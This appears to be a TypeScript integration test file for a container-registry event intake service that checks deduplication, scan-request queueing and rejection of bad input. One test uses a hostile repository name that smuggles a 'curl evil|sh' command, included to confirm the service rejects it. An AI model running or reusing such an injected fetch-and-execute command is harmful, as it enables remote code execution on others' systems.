import { QueueClient, StorageRetryPolicyType } from '@azure/storage-queue';
import { describe, expect, inject, it } from 'vitest';
import { IntakeService } from '../../shared/intake/intakeService';
import { silentLog } from '../../shared/intake/intakeLog';
import { ignoreLivePushes, type LivePushObserver } from '../../shared/intake/livePushObserver';
import { RecordingLivePushObserver } from '../support/recordingLivePushObserver';
import { DEFAULT_ROUTING_RULES } from '../../shared/intake/route';
import { QueueScanRequestSink } from '../../shared/scan/scanRequestSink';
import { TableRegistryEventStore } from '../../shared/intake/tableEventStore';
import { decodeScanRequest } from '../../shared/scan/scanRequest';
import { azuriteTable, imagePushed, peekAll, uniqueNames } from '../support/intakeFixtures';

const connectionString = () => inject('azuriteConnectionString');

async function setup(options: { livePushes?: LivePushObserver; queue?: QueueClient } = {}) {
    const names = uniqueNames('Intake');
    const table = azuriteTable(connectionString(), names.table);
    const queue = new QueueClient(connectionString(), names.queue);
    // Provisioned, as infra/ and provisionStorage do for the app.
    await Promise.all([table.createTable(), queue.createIfNotExists()]);
    const store = new TableRegistryEventStore(table);
    const service = (sinkQueue: QueueClient = options.queue ?? queue) =>
        new IntakeService({
            store,
            scanRequests: new QueueScanRequestSink(sinkQueue),
            livePushes: options.livePushes ?? ignoreLivePushes,
            rules: DEFAULT_ROUTING_RULES,
            defaultRegistry: 'contoso.azurecr.io',
        });
    return { table, queue, store, service, names };
}

async function rows(table: ReturnType<typeof azuriteTable>) {
    const all: Array<Record<string, unknown>> = [];
    for await (const row of table.listEntities()) all.push(row);
    return all;
}

describe('IntakeService against Azurite', () => {
    it('turns the same quarantine push delivered three times into one scan request and one record', async () => {
        const { table, queue, service, store } = await setup();
        const intake = service();
        const event = imagePushed('evt-dup', 'quarantine/team/app');
        const results = [await intake.handle(event, silentLog), await intake.handle(event, silentLog), await intake.handle(event, silentLog)];
        expect(results.map((r) => r.delivery)).toEqual(['first', 'duplicate', 'duplicate']);
        expect(results.every((r) => r.route === 'scan')).toBe(true);

        const messages = await peekAll(queue);
        expect(messages).toHaveLength(1);
        const decoded = decodeScanRequest(messages[0]);
        expect(decoded).toMatchObject({
            ok: true,
            request: { registry: 'contoso.azurecr.io', repository: 'quarantine/team/app', digest: `sha256:${'a'.repeat(64)}`, tag: '1.0', reason: 'push', sourceEventId: 'evt-dup', requestId: results[0]!.scanRequestId },
        });

        const all = await rows(table);
        const eventRows = all.filter((r) => r.partitionKey === 'event');
        expect(eventRows).toHaveLength(1);
        expect(eventRows[0]).toMatchObject({ eventId: 'evt-dup', route: 'scan', repository: 'quarantine/team/app', scanRequestId: results[0]!.scanRequestId });
        // Quarantine pushes need no digest row (their scan result is recorded by digest downstream).
        expect(await store.findByDigest(`sha256:${'a'.repeat(64)}`)).toEqual([]);
    });

    it('deduplicates concurrent deliveries of a batch too', async () => {
        const { queue, service } = await setup();
        const a = imagePushed('evt-a', 'quarantine/a', 'a');
        const b = imagePushed('evt-b', 'quarantine/b', 'b');
        const intake = service();
        const results = await Promise.all([a, b, a, b, a, b].map((event) => intake.handle(event, silentLog)));
        expect(results.filter((r) => r.route === 'scan')).toHaveLength(6);
        // Each id is recorded exactly once. A duplicate that arrives while the first delivery is still
        // in flight finds no record yet and sends again (harmless: scans are idempotent per
        // digest), so 2 to 6 messages.
        const sources = (await peekAll(queue)).map((m) => (m as { sourceEventId: string }).sourceEventId);
        expect(new Set(sources)).toEqual(new Set(['evt-a', 'evt-b']));
        expect(sources.length).toBeGreaterThanOrEqual(2);
        expect(sources.length).toBeLessThanOrEqual(6);
        expect(results.filter((r) => r.delivery === 'first')).toHaveLength(2);
    });

    it('records live pushes by digest and hands them to the live-push observer, queueing nothing', async () => {
        const observer = new RecordingLivePushObserver();
        const { queue, service, store } = await setup({ livePushes: observer });
        const event = imagePushed('evt-live', 'live/team/app', 'd');
        await service().handle(event, silentLog);
        await service().handle(event, silentLog);
        expect(observer.pushes).toHaveLength(1);
        expect(observer.pushes[0]).toMatchObject({ eventId: 'evt-live', repository: 'live/team/app', digest: `sha256:${'d'.repeat(64)}` });
        expect(await store.findByDigest(`sha256:${'d'.repeat(64)}`)).toEqual([
            { digest: `sha256:${'d'.repeat(64)}`, eventId: 'evt-live', eventType: 'Microsoft.ContainerRegistry.ImagePushed', route: 'live-check', registry: 'contoso.azurecr.io', repository: 'live/team/app', tag: '1.0', time: '2024-05-01T10:00:00.123Z' },
        ]);
        await queue.createIfNotExists();
        expect(await peekAll(queue)).toHaveLength(0);
    });

    it('records bad input with its reason and queues nothing', async () => {
        const { table, queue, service, store } = await setup();
        const intake = service();
        const malformed = await intake.handle('{"id": "x", "eventType": ', silentLog);
        const unknown = await intake.handle({ ...imagePushed('evt-blob', 'quarantine/a'), eventType: 'Microsoft.Storage.BlobCreated' }, silentLog);
        const hostile = await intake.handle(imagePushed('evt-evil', 'quarantine/app;curl evil|sh'), silentLog);
        const ignored = await intake.handle(imagePushed('evt-other', 'team/app'), silentLog);
        expect([malformed.route, unknown.route, hostile.route, ignored.route]).toEqual(['reject', 'reject', 'reject', 'ignore']);
        expect(malformed.key.id).toMatch(/^payload-sha256:[0-9a-f]{64}$/);

        const hostileRow = await store.get(hostile.key);
        expect(hostileRow).toMatchObject({ route: 'reject', reason: expect.stringMatching(/invalid data\.target\.repository/) });
        expect(hostileRow?.raw).toContain('curl evil|sh');
        expect(await store.get(malformed.key)).toMatchObject({ route: 'reject', reason: expect.stringMatching(/^malformed JSON/), raw: '{"id": "x", "eventType": ' });
        expect(await store.get(unknown.key)).toMatchObject({ route: 'reject', reason: 'unknown event type "Microsoft.Storage.BlobCreated": not an ACR registry event' });
        expect(await store.get(ignored.key)).toMatchObject({ route: 'ignore', reason: expect.stringMatching(/outside both prefixes/) });
        expect((await rows(table)).filter((r) => String(r.partitionKey).startsWith('digest:'))).toHaveLength(0);

        // A rejected event redelivered is recognised as a duplicate too.
        expect((await intake.handle('{"id": "x", "eventType": ', silentLog)).delivery).toBe('duplicate');
        await queue.createIfNotExists();
        expect(await peekAll(queue)).toHaveLength(0);
    });

    it('records a push whose id is too long to be a table key as a reject, instead of failing every delivery', async () => {
        const { queue, service, store } = await setup();
        const intake = service();
        // 250 characters, but 750 UTF-8 bytes: percent-encoded, more than a RowKey's 1 KiB.
        const longId = '€'.repeat(250);
        const first = await intake.handle(imagePushed(longId, 'quarantine/team/app'), silentLog);
        expect(first).toMatchObject({ route: 'reject', delivery: 'first', reason: expect.stringMatching(/longer than 256 bytes/) });
        expect(first.key.id).toMatch(/^payload-sha256:[0-9a-f]{64}$/);
        expect(await store.get(first.key)).toMatchObject({ route: 'reject' });
        expect((await intake.handle(imagePushed(longId, 'quarantine/team/app'), silentLog)).delivery).toBe('duplicate');
        await queue.createIfNotExists();
        expect(await peekAll(queue)).toHaveLength(0);
    });

    it('still enqueues on redelivery when the first delivery failed to enqueue (crash safety)', async () => {
        const { queue, service, store } = await setup();
        // The first delivery reaches a queue endpoint that refuses connections: a real network failure.
        const deadQueue = new QueueClient(
            connectionString().replace(/QueueEndpoint=[^;]+/, 'QueueEndpoint=http://127.0.0.1:1/devstoreaccount1'),
            'scan-requests',
            { retryOptions: { maxTries: 1, retryPolicyType: StorageRetryPolicyType.FIXED } },
        );
        const event = imagePushed('evt-crash', 'quarantine/app', 'e');
        await expect(service(deadQueue).handle(event, silentLog)).rejects.toThrow();
        // Nothing is recorded until the scan request is out, so the redelivery is not mistaken for a duplicate.
        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toBeUndefined();

        const redelivered = await service().handle(event, silentLog);
        expect(redelivered).toMatchObject({ delivery: 'first', route: 'scan' });
        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toMatchObject({ route: 'scan', scanRequestId: redelivered.scanRequestId });
        expect((await service().handle(event, silentLog)).delivery).toBe('duplicate');
        const messages = await peekAll(queue);
        expect(messages).toHaveLength(1);
        expect(messages[0]).toMatchObject({ sourceEventId: 'evt-crash', digest: `sha256:${'e'.repeat(64)}` });
    });

    it('records deletes by digest and chart events without queueing', async () => {
        const { queue, service, store } = await setup();
        const deleted = { ...imagePushed('evt-del', 'live/app', 'f'), eventType: 'ImageDeleted' };
        const result = await service().handle(deleted, silentLog);
        expect(result).toMatchObject({ route: 'record', delivery: 'first' });
        expect(await store.findByDigest(`sha256:${'f'.repeat(64)}`)).toEqual([expect.objectContaining({ eventId: 'evt-del', route: 'record', eventType: 'Microsoft.ContainerRegistry.ImageDeleted' })]);
        await queue.createIfNotExists();
        expect(await peekAll(queue)).toHaveLength(0);
    });
});
